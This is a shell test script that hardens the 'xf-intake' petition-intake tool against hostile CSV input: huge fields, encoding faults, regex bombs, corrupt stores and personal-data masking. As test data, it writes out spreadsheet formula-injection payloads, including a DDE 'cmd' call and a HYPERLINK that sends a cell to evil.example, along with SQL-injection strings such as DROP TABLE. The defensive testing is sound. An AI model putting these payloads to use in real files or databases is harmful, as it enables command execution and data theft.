# xf-intake on hostile input (hardening item 9): broken quoting, huge
# fields, NUL bytes, bad encodings, odd line ends, empty and odd headers,
# out-of-range values, SQL and formula text, regex bombs in rules, bad
# calendars and stores that are not stores.
#
# The cases are the lines of tests/hostile/EXPECT, one a case, so adding a
# case is adding a line (and, if need be, a file):
#
#   file | args | exit | stored | stderr
#
# Fields are separated by '|', blanks around them are ignored; blank lines
# and lines starting with '#' are skipped.  The last field is the rest of
# the line, so it may itself hold '|'.
#
#   file    the input: a file in tests/hostile/, or one that gen() below
#           makes at run time (big inputs are never committed).
#   args    more options for xf-intake, split on blanks (no quoting), or
#           '-' for none.  --as-of 2026-11-24 is always given first.
#           Paths are relative to tests/hostile: the test runs in a copy of
#           it, so runs may write beside their inputs.  A word that names
#           no file there but one gen() knows (truncated.db, dbdir, ...)
#           is generated first.
#   exit    the expected exit status (xf(7): 0 all applied, 1 some rows
#           rejected, 2 usage or configuration error, 3 nothing applied,
#           75 busy); alternatives as 1/2.
#   stored  SELECT count(*) FROM cases in the store the run used: the one
#           given with --db, else a fresh store for the line (no store, or
#           an empty file, counts 0); '-' for not checked.  Alternatives as
#           1/0 pair up with those of exit: the Nth count goes with the Nth
#           status.
#   stderr  a shell glob that standard error must contain (as *GLOB*, so
#           * ? [ are special); it names file:LINE: wherever a line
#           applies.  'A || B' accepts either; '-' means stderr must be
#           empty.  Stderr must also stay under 64 KiB.
#
# Every run is under `ulimit -v 600000` (about 600 MB of address space) and
# `timeout 60`, so a memory blow-up or a hang fails the case.  Each case
# gives 3 tests (exit, stderr, stored) and, when it stored cases, a 4th: the
# store passes PRAGMA quick_check.  A few cases get more checks, in extra().
. "$(dirname "$0")/lib.sh"

H=$XF_TOP/tests/hostile
# A sanitizer build reserves terabytes of address space and cannot start
# under ulimit -v at all: there the memory bounds go unchecked (said once;
# the plain build of the same suite checks them).
MEM=600000
SMALLMEM=40000
printf 'received_at,channel,petitioner_name,content\n' >"$T/probe.csv"
if ! (ulimit -v $MEM && exec xf-intake --dry-run --db "$T/probe.db" "$T/probe.csv") >/dev/null 2>"$T/probe.err"; then
	echo "# xf-intake cannot run under ulimit -v $MEM (exit $?): memory not bounded here"
	head -n 5 "$T/probe.err" | sed 's/^/#   /'
	echo "#   ulimit -s: $(ulimit -s); nproc: $(nproc 2>/dev/null)"
	MEM=unlimited
fi
(ulimit -v $SMALLMEM && xf-intake --dry-run --db "$T/probe.db" "$T/probe.csv") >/dev/null 2>&1 ||
	SMALLMEM=''

EXPECT=$H/EXPECT
HDR=received_at,channel,petitioner_name,content
cp -R "$H" "$T/h" && mkdir "$T/s" "$T/o" && cd "$T/h" || exit 1

# gen NAME: make the generated input NAME in the current directory; false
# for a name it does not know.
gen() {
	case $1 in
	bigfield-quoted.csv | bigfield-unquoted.csv)
		# a 50 MB field between two good rows
		qt=; [ "$1" = bigfield-quoted.csv ] && qt='"'
		{
			echo "$HDR"
			echo '2026-11-20,visit,张三,大字段之前的好行'
			printf '2026-11-20,visit,李四,%s' "$qt"
			head -c 52428800 /dev/zero | tr '\0' x
			printf '%s\n' "$qt"
			echo '2026-11-21,visit,王五,大字段之后的好行'
		} >"$1" ;;
	field-limit.csv)
		# a field of exactly 1 MiB, then one a byte longer
		{
			echo "$HDR"
			printf '2026-11-20,visit,张三,'
			head -c 1048576 /dev/zero | tr '\0' x
			printf '\n2026-11-20,visit,李四,'
			head -c 1048577 /dev/zero | tr '\0' x
			printf '\n2026-11-21,visit,王五,后面的好行\n'
		} >"$1" ;;
	cols-100k.csv)
		# 100,000 columns: the 4 required ones and 99,996 extra
		awk -v h="$HDR" 'BEGIN {
			printf "%s", h; for (i = 5; i <= 100000; i++) printf ",c%d", i
			printf "\n2026-11-20,visit,张三,十万列"
			for (i = 5; i <= 100000; i++) printf ",v"
			printf "\n" }' >"$1" ;;
	long-header.csv)
		# a 10 KB header name
		{
			printf '%s,' "$HDR"
			head -c 10240 /dev/zero | tr '\0' h
			printf '\n2026-11-20,visit,张三,超长表头,值\n'
		} >"$1" ;;
	identical-10k.csv)
		awk -v h="$HDR" 'BEGIN { print h
			for (i = 0; i < 10000; i++) print "2026-11-20,visit,张三,同一条信访重复了一万次" }' >"$1" ;;
	newline-bomb.csv)
		# 1,000,000 quoted newlines in one field; a bad row after it
		{
			echo "$HDR"
			echo '2026-11-20,visit,张三,前面的好行'
			printf '2026-11-20,visit,李四,"x'
			head -c 1000000 /dev/zero | tr '\0' '\n'
			printf 'y"\n2026-13-20,visit,王五,日期错误的一行\n'
		} >"$1" ;;
	regex-a.csv | regex-eq.csv)
		# a long row for (a+)+$ (a...ab) or for .*.*=.*\d (=...=)
		c=a; [ "$1" = regex-eq.csv ] && c==
		{
			echo "$HDR"
			echo '2026-11-20,visit,张三,正常的内容'
			printf '2026-11-20,visit,李四,'
			head -c 100000 /dev/zero | tr '\0' "$c"
			[ $c = a ] && printf b
			echo
		} >"$1" ;;
	truncated.db)
		# a real store with two cases, cut to half its size
		xf-intake --as-of 2026-11-24 --db full.db good.csv >/dev/null 2>&1
		head -c $(($(wc -c <full.db) / 2)) full.db >"$1" ;;
	empty-store.db) : >"$1" ;;
	not-sqlite.db) echo 'this is not a database, just a text file' >"$1" ;;
	dbdir) mkdir "$1" ;;
	*) return 1 ;;
	esac
}

# trim S: S without blanks at either end.
trim() {
	set -- "${1#"${1%%[! 	]*}"}"
	printf '%s' "${1%"${1##*[! 	]}"}"
}

# nth N LIST: the Nth of the '/'-separated LIST, or the last if it has fewer.
nth() {
	echo "$2" | awk -F/ -v n="$1" '{ print (n <= NF ? $n : $NF) }'
}

# msg_ok GLOBS: does $err match one of the ' || '-separated GLOBS?
msg_ok() {
	rest=$1
	while :; do
		alt=${rest%% || *}
		if [ "$alt" = - ]; then
			[ -z "$err" ] && return 0
		else
			case $err in *$alt*) return 0 ;; esac
		fi
		[ "$alt" = "$rest" ] && return 1
		rest=${rest#* || }
	done
}

# extra: more checks for some cases (the line's $file, $args, $out, $err
# and the store $XF_DB).
extra() {
	case "$file $args" in
	"formula-cells.csv --excel-safe")
		is "$label: no output cell starts with = + - @ but a plain negative number" \
		    "$(printf '%s\n' "$out" | sed 1d | tr ',' '\n' | sed 's/^"//' | grep -v '^-[0-9][0-9]*$' | grep -c '^[-=+@]')" 0
		is "$label: 9 cells guarded with a leading '" \
		    "$(printf '%s\n' "$out" | sed 1d | tr ',' '\n' | sed 's/^"//' | grep -c "^'[-=+@]")" 9
		is "$label: the 3 cells -2 left numbers" \
		    "$(printf '%s\n' "$out" | sed 1d | tr ',' '\n' | grep -c '^-2$')" 3
		like "$label: the DDE cell as written, guarded" "$out" "XF-20261120-0001,'=cmd|' /C calc'!A0,2,"
		is "$label: the store keeps the cells verbatim" \
		    "$(q "SELECT source_ref||' '||content||' '||category||' '||unit FROM cases ORDER BY case_id")" \
		    "=cmd|' /C calc'!A0 =cmd|' /C calc'!A0 =cmd|' /C calc'!A0 +1
+1 +1 @SUM(1) -2
@SUM(1) @SUM(1) -2 =HYPERLINK(\"http://evil.example/?\"&A1)
-2 -2 +1 @SUM(1)" ;;
	"sql-injection.csv ")
		is "$label: tables still there" \
		    "$(q "SELECT count(*) FROM sqlite_master WHERE type='table' AND name IN ('cases','events')")" 2
		is "$label: SQL text stored verbatim" \
		    "$(q "SELECT source_ref,petitioner_name,address,content FROM cases ORDER BY case_id")" \
		    "R'1;--|Robert'); DROP TABLE cases;--|1' OR '1'='1|'); DROP TABLE cases;--
R2\";DELETE FROM events|x\" OR 1=1 --|'||(SELECT sqlite_version())||'|'; ATTACH DATABASE 'pwn.db' AS p; --"
		ok "$label: nothing attached" [ ! -e pwn.db ] ;;
	"identical-10k.csv ")
		is "$label: 1 registered, 9999 duplicates" \
		    "$(printf '%s\n' "$out" | awk -F, 'NR > 1 { n[$4]++ } END { print n["registered"] + 0, n["duplicate"] + 0 }')" "1 9999" ;;
	"newline-bomb.csv ")
		is "$label: the million newlines stored" \
		    "$(q "SELECT length(content) - length(replace(content, char(10), '')) FROM cases WHERE petitioner_name='李四'")" 1000000 ;;
	"field-limit.csv ")
		is "$label: the 1 MiB field stored whole" "$(q 'SELECT max(length(content)) FROM cases')" 1048576 ;;
	"bigfield-quoted.csv " | "bigfield-unquoted.csv ")
		is "$label: the rows around it stored" \
		    "$(q 'SELECT group_concat(petitioner_name) FROM (SELECT petitioner_name FROM cases ORDER BY case_id)')" "张三,王五"
		# 600 MB cannot tell a reader that keeps the whole 50 MB field
		# from one that stops at 1 MiB; 40 MB can (a small run needs
		# under 20 MB).  Memory must be flat in the size of a field.
		if [ -z "$SMALLMEM" ]; then
			ok "$label: under ulimit -v 40000 too # SKIP this build cannot run under it" true
			ok "$label: ... and the same message # SKIP" true
		else
		(
			ulimit -v $SMALLMEM || exit 99
			exec timeout 60 xf-intake --as-of 2026-11-24 --db "$T/s/$n-40m.db" "$file"
		) </dev/null >/dev/null 2>"$T/o/$n-40m.err"
		is "$label: under ulimit -v 40000 too: exit, rows stored" \
		    "$? $(sqlite3 "$T/s/$n-40m.db" 'SELECT count(*) FROM cases' 2>&1)" "1 2"
		like "$label: ... and the same message" "$(head -c 1000 "$T/o/$n-40m.err")" \
		    "$file:3: content: field longer than 1048576 bytes"
		fi ;;
	"cols-100k.csv ")
		is "$label: every extra column kept" "$(q 'SELECT count(*) FROM cases, json_each(cases.extra)')" 99996 ;;
	"long-header.csv ")
		is "$label: the long name kept" "$(q 'SELECT length(key) FROM cases, json_each(cases.extra)')" 10240 ;;
	"header-empty-names-valued.csv ")
		is "$label: values under empty headers kept" \
		    "$(q "SELECT count(*) FROM cases, json_each(cases.extra) WHERE value IN ('甲','乙','丙')")" 3 ;;
	"eol-mixed.csv ")
		is "$label: output lines" "$(printf '%s\n' "$out" | sed 1d | cut -d, -f3 | tr '\n' ' ')" "2 3 4 5 "
		is "$label: no CR stored" "$(q "SELECT count(*) FROM cases WHERE instr(content, char(13)) > 0")" 0 ;;
	"eol-cr-only.csv ")
		is "$label: output lines" "$(printf '%s\n' "$out" | sed 1d | cut -d, -f3 | tr '\n' ' ')" "2 4 " ;;
	"utf16.csv --encoding UTF-16")
		is "$label: text converted" "$(q 'SELECT content FROM cases')" "UTF-16编码的文件" ;;
	"mixed-utf8-gb18030.csv ")
		is "$label: the UTF-8 rows stored" \
		    "$(q 'SELECT group_concat(petitioner_name) FROM (SELECT petitioner_name FROM cases ORDER BY case_id)')" \
		    "Zhang San,王五,Zhao Liu" ;;
	"mixed-utf8-gb18030.csv --encoding GB18030")
		is "$label: the rows before the UTF-8 one stored, converted" \
		    "$(q 'SELECT group_concat(petitioner_name) FROM (SELECT petitioner_name FROM cases ORDER BY case_id)')" \
		    "Zhang San,李四" ;;
	"idno-hostile.csv ")
		# personal data are masked in messages (PRODUCT.md)
		is "$label: no ID number in full on stderr" \
		    "$(grep -c -F -e 110105194912310021 -e 110105194902300028 -e 11010519491231002X11010519491231002X \
			-e １１０１０５１９４９１２３１００２Ｘ "$T/o/$n.err")" 0 ;;
	"holiday-probe.csv --config cfg-holidays-quoted")
		is "$label: the quoted holiday 2026-10-08 is used" \
		    "$(q "SELECT triage_deadline FROM cases WHERE received_at='2026-09-23'")" 2026-10-09 ;;
	"good.csv --db not-sqlite.db")
		ok "$label: the file is left as it was" test "$(cat not-sqlite.db)" = 'this is not a database, just a text file' ;;
	"good.csv --db empty-store.db")
		is "$label: it became an xf store" "$(q 'PRAGMA application_id')" 1480982785 ;;
	"good.csv --db dbdir")
		is "$label: nothing written into the directory" "$(ls -A dbdir)" "" ;;
	esac
}

n=0
while IFS='|' read -r file args want_rc want_n want_msg; do
	file=$(trim "$file")
	case $file in '' | '#'*) continue ;; esac
	n=$((n + 1))
	args=$(trim "$args")
	[ "$args" = - ] && args=
	want_rc=$(trim "$want_rc")
	want_n=$(trim "$want_n")
	want_msg=$(trim "$want_msg")
	label="$file${args:+ $args}"

	set -f
	set -- $args
	set +f
	store=$T/s/$n.db
	prev=
	for a in "$file" "$@"; do
		[ "$prev" = --db ] && store=$a
		prev=$a
		[ -e "$a" ] || gen "$a"
	done

	XF_DB=$T/s/$n.db
	(
		ulimit -v $MEM || exit 99
		exec timeout 60 xf-intake --as-of 2026-11-24 "$@" "$file"
	) </dev/null >"$T/o/$n.out" 2>"$T/o/$n.err"
	rc=$?
	out=$(cat "$T/o/$n.out")
	err=$(head -c 65536 "$T/o/$n.err")
	XF_DB=$store

	# exit status, one of the alternatives; which one picks the count
	i=0 k=0
	for w in $(echo "$want_rc" | tr / ' '); do
		i=$((i + 1))
		[ "$rc" = "$w" ] && k=$i && break
	done
	if [ $k -gt 0 ]; then
		is "$label: exit $want_rc" "$rc" "$rc"
	else
		is "$label: exit $want_rc" "$rc" "$want_rc"
		case $rc in
		124) echo "#   timed out after 60 s" ;;
		99) echo "#   ulimit -v failed" ;;
		1[3-9][0-9] | 2[0-9][0-9]) echo "#   killed by signal $((rc - 128))" ;;
		esac
		k=1
	fi

	# a message may quote a value, but not a 50 MB one
	ntest=$((ntest + 1))
	errsize=$(wc -c <"$T/o/$n.err")
	if [ "$errsize" -le 65536 ] && msg_ok "$want_msg"; then
		echo "ok $ntest - $label: stderr"
	else
		echo "not ok $ntest - $label: stderr"
		[ "$errsize" -gt 65536 ] && echo "#   stderr is $errsize bytes"
		printf '%s\n' "$err" | head -n 10 | cut -c 1-300 | sed 's/^/#   got:  /'
		printf '#   want: %s\n' "$want_msg"
		nfail=$((nfail + 1))
	fi

	if [ "$want_n" != - ]; then
		want=$(nth $k "$want_n")
		if [ -s "$store" ]; then
			got=$(q 'SELECT count(*) FROM cases' 2>&1)
		else
			got=0
		fi
		is "$label: $want stored" "$got" "$want"
		if [ -s "$store" ] && [ "$got" != 0 ]; then
			is "$label: store intact" "$(q 'PRAGMA quick_check' 2>&1)" ok
		fi
	fi
	extra
done <"$EXPECT"

ok "EXPECT has at least 40 cases ($n)" [ "$n" -ge 40 ]

# The tools that read case_id files read their headers with the same care.
cd "$T/h" || exit 1
printf 'case_id\nXF-20261101-0001\n' | xf-intake --as-of 2026-11-24 --db "$T/s/ids.db" good.csv >/dev/null 2>&1
for tool in xf-assign xf-update xf-escalate; do
	run env XF_CONFIG="$XF_TOP/examples" $tool --as-of 2026-11-24 --db "$T/s/ids.db" nul-header.csv
	is "$tool nul-header.csv: exit 3" "$rc" 3
	like "... the NUL named as a NUL" "$err" "nul-header.csv:1: header column 2 has a NUL byte at byte 5"
done

# An ID number or a phone in a column where it does not belong is quoted
# by the message about that column: masked like any other (xf(7)).
printf 'case_id,unit,event,at\n11010519491231002X,x,note,2026-11-20\n13800138000,x,note,2026-11-20\n１３８００１３８０００,x,note,2026-11-20\n+86 138-0013-8000,x,note,2026-11-20\n110105491231002,x,note,2026-11-20\n' >pd.csv
printf 'received_at,channel,petitioner_name,content,persons\n11010519491231002X,visit,张三,x,1\n2026-11-20,visit,张三,x,13800138000\n' >pd-intake.csv
for tool in xf-intake xf-assign xf-update xf-escalate; do
	f=pd.csv
	[ $tool = xf-intake ] && f=pd-intake.csv
	run env XF_CONFIG="$XF_TOP/examples" $tool --as-of 2026-11-24 --db "$T/s/ids.db" --dry-run $f
	ok "$tool: personal data quoted on stderr is masked" \
	    sh -c "! printf '%s' \"\$1\" | grep -E '[0-9]{7}|[0-9]{4} ?-?[0-9]{4}|００１３|138-0013'" - "$err"
	like "... as exports mask it" "$err" "110105********002X"
done
like "... a phone too" "$err" "138****8000"
printf 'received_at,channel,petitioner_name,content,status,unit\n2026-10-01,visit,张三,内容,registered,13800138000\n' >pd-history.csv
run env XF_CONFIG="$XF_TOP/examples" xf-intake --as-of 2026-11-24 --db "$T/s/h.db" --history pd-history.csv
like "a phone as the unit of an old case: masked in the warning" "$err" 'unit "138****8000" (1 case) is not in units.csv'

done_testing
